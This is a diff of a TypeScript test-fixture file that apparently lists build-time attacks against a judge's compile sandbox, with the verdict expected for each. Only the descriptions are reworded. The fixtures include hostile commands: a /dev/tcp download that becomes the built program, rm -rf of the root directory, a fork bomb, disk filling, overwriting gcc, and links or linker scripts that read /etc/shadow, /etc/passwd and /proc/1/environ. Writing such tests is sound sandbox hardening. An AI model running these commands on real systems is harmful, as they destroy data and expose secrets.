@@ -1,12 +1,12 @@
-/** Attacks by what is built rather than by what runs: a kernel problem whose build files the submission may change. */
+/** Attacks with the build instead of the program: a kernel problem whose build files the submission may change. */
 export interface BuildAttack {
   name: string;
   attack: string;
-  /** Any of these is right. */
+  /** Any of these verdicts is right. */
   verdicts: string[];
-  /** What the build must have said, so that it is known to have met the attack. */
+  /** What the build output must contain, which shows that the attack was attempted. */
   words?: RegExp[];
-  /** Laid over the base: `main.c`, which adds two numbers, and a `Makefile` that builds `program` from it. */
+  /** Added to the starter code: `main.c`, which adds two numbers, and a `Makefile` that builds `program` from it. */
   files: Record<string, string>;
   commands: string[];
 }
@@ -19,11 +19,11 @@ const BUILT = 'gcc -static -o program main.c';
 
 export const BUILD_ATTACKS: readonly BuildAttack[] = [
   {
-    ...{ name: 'leave-daemon', attack: 'leaves a process behind that goes on building', verdicts: ['AC'] },
+    ...{ name: 'leave-daemon', attack: 'leaves a process behind that continues to build', verdicts: ['AC'] },
     ...make(`${BUILT}\n(setsid sh -c 'while true; do date > left; done' >/dev/null 2>&1 &)`),
   },
   {
-    ...{ name: 'call-out', attack: 'fetches what it builds from elsewhere', verdicts: ['CE'] },
+    ...{ name: 'call-out', attack: 'downloads what it builds', verdicts: ['CE'] },
     ...make(`bash -c 'cat < /dev/tcp/1.1.1.1/80 > program'`),
   },
   {
@@ -31,19 +31,19 @@ export const BUILD_ATTACKS: readonly BuildAttack[] = [
     ...make('rm -rf --no-preserve-root / 2>/dev/null; false'),
   },
   {
-    ...{ name: 'change-the-toolchain', attack: 'replaces the compiler for whoever comes next', verdicts: ['CE'] },
+    ...{ name: 'change-the-toolchain', attack: 'replaces the compiler for the next submission', verdicts: ['CE'] },
     ...make('cp /bin/true /usr/bin/gcc'),
   },
   {
-    ...{ name: 'fork-bomb', attack: 'forks without end while it builds', verdicts: ['CE'] },
+    ...{ name: 'fork-bomb', attack: 'forks without end during the build', verdicts: ['CE'] },
     ...make(`bash -c 'f() { f | f & }; f; wait; exit 1'`),
   },
   {
-    ...{ name: 'fill-the-disk', attack: 'writes until nothing more fits', verdicts: ['CE'] },
+    ...{ name: 'fill-the-disk', attack: 'writes until the disk is full', verdicts: ['CE'] },
     ...make('cat /dev/zero > large'),
   },
   {
-    ...{ name: 'many-files', attack: 'makes files until none more can be made', verdicts: ['CE'] },
+    ...{ name: 'many-files', attack: 'creates files until no more can be created', verdicts: ['CE'] },
     ...make(`bash -c 'for i in {1..200000}; do : > f$i || exit 1; done' 2>/dev/null`),
   },
   {
@@ -51,7 +51,7 @@ export const BUILD_ATTACKS: readonly BuildAttack[] = [
     ...make('yes'),
   },
   {
-    ...{ name: 'sleep', attack: 'waits for ever', verdicts: ['CE'] },
+    ...{ name: 'sleep', attack: 'waits forever', verdicts: ['CE'] },
     ...make('sleep infinity'),
   },
   {
@@ -63,7 +63,7 @@ export const BUILD_ATTACKS: readonly BuildAttack[] = [
     ...make('ln -s /etc/passwd program'),
   },
   {
-    ...{ name: 'artefact-link-above', attack: 'makes its output a link to what is outside', verdicts: ['CE'] },
+    ...{ name: 'artefact-link-above', attack: 'makes its output a link to a file outside the tree', verdicts: ['CE'] },
     ...make('ln -s ../../../../proc/1/environ program'),
   },
   {
@@ -71,27 +71,27 @@ export const BUILD_ATTACKS: readonly BuildAttack[] = [
     ...make('mknod program c 1 3 2>/dev/null || ln -s /dev/zero program'),
   },
   {
-    ...{ name: 'linker-script-input', attack: 'has the linker take in a secret', verdicts: ['CE'] },
+    ...{ name: 'linker-script-input', attack: 'makes the linker include a secret', verdicts: ['CE'] },
     files: { 'evil.ld': 'INPUT(/etc/shadow)\n' },
     commands: ['gcc -o program main.c evil.ld'],
   },
   {
-    ...{ name: 'linker-script-device', attack: 'has the linker read a device without end', verdicts: ['CE'] },
+    ...{ name: 'linker-script-device', attack: 'makes the linker read a device without end', verdicts: ['CE'] },
     files: { 'evil.ld': 'INPUT(/dev/zero)\n' },
     commands: ['gcc -o program main.c evil.ld'],
   },
   {
-    ...{ name: 'linker-script-include', attack: 'has the linker tell what is in a secret', verdicts: ['CE'] },
+    ...{ name: 'linker-script-include', attack: 'makes the linker print a secret', verdicts: ['CE'] },
     files: { 'evil.ld': 'INCLUDE /proc/1/environ\n' },
     commands: ['gcc -o program main.c evil.ld'],
   },
   {
-    ...{ name: 'specs-file', attack: 'has the compiler driver start another program', verdicts: ['CE'] },
+    ...{ name: 'specs-file', attack: 'makes the compiler driver start another program', verdicts: ['CE'] },
     files: { 'evil.specs': '*cc1:\n%{!x:-fplugin=/build/evil.so}\n\n*link_command:\nmount -t tmpfs none /usr\n' },
     commands: ['gcc -specs=evil.specs -o program main.c'],
   },
   {
-    ...{ name: 'artefact-pipe', attack: 'makes its output a pipe nobody writes to', verdicts: ['CE'] },
+    ...{ name: 'artefact-pipe', attack: 'makes its output a pipe that is never written to', verdicts: ['CE'] },
     ...make('mkfifo program'),
   },
   {
@@ -99,13 +99,13 @@ export const BUILD_ATTACKS: readonly BuildAttack[] = [
     ...make('mkdir program'),
   },
   {
-    ...{ name: 'artefact-huge', attack: 'makes its output larger than anything may be', verdicts: ['CE'] },
+    ...{ name: 'artefact-huge', attack: 'makes its output larger than the limit', verdicts: ['CE'] },
     ...make('truncate -s 8T program'),
   },
   {
     ...{
       name: 'artefact-hard-link',
-      attack: 'makes its output a second name of a file of the machine',
+      attack: 'makes its output a hard link to a file of the machine',
       verdicts: ['CE'],
     },
     ...make('ln /etc/passwd program'),
